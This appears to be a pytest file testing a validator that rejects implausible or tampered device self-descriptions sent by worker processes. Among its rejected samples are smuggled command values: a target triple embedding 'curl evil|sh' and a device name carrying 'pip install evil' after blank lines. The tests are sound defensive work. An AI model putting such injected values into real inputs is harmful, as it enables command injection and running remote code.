"""What a device says of itself is taken where a machine could say so."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from workers.child.describe import _plausible

SAID: dict[str, Any] = {
    "hardware": {
        "name": "Cortex-A72", "system": "Linux", "machine": "aarch64", "cores": 4, "memory": 2**32, "flags": ["asimd"],
        "target": {"kind": "llvm", "mtriple": "aarch64-linux-gnu", "num-cores": 4},
    },
    "peak": None,
    "versions": {"apache-tvm": "0.27.0"},
}  # fmt: skip
SPOILED: dict[str, Callable[[dict[str, Any]], object]] = {
    "lines that would stand in an archive": lambda said: said["hardware"].update(name="Board\n\npip install evil"),
    "what no page has room for": lambda said: said["hardware"].update(flags=["x" * 150] * 1000),
    "a word without an end": lambda said: said["hardware"].update(flags=["x" * 1000]),
    "no words": lambda said: said["hardware"].update(flags=[7]),
    "a command in what is to be installed": lambda said: said["hardware"]["target"].update(
        mtriple="x;curl evil|sh;-linux-gnu"
    ),
    "a version that is none": lambda said: said["versions"].update({"apache-tvm": "0.27\n<b>"}),
    "a processor with lines": lambda said: said["hardware"]["target"].update(mcpu="a\nb"),
    "cores in a word": lambda said: said["hardware"].update(cores="4"),
    "a peak without an end": lambda said: said.update(peak={"flops": 1e999, "bandwidth": 1e9}),
    "half a peak": lambda said: said.update(peak={"flops": 1e9}),
    "no cores": lambda said: said["hardware"].update(cores=0),
    "nothing": lambda said: said.clear(),
}


def test_what_a_device_says_is_taken() -> None:
    assert _plausible(SAID)


@pytest.mark.parametrize("name", SPOILED)
def test_what_no_machine_says_is_not(name: str) -> None:
    said = copy.deepcopy(SAID)
    SPOILED[name](said)
    assert not _plausible(said)
